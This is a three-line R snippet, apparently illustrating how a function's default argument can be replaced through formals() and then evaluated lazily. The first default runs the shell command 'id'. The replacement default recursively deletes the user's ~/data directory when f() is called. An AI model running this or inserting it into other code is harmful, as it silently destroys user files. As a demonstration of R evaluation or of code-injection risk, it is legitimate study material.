f <- function(x = system("id")) x
formals(f)$x <- quote(unlink("~/data", recursive = TRUE))
f()
